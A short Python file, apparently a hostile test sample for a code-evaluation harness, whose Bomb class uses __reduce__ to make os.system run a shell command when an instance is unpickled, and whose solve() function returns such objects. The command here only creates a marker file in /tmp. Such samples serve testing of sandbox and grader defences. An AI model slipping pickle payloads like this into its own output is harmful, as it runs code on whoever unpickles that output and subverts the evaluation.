# An object that runs code where it is unpickled.
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/evolcoder_hostile_mark",)


def solve(n):
    return [Bomb(), Bomb]
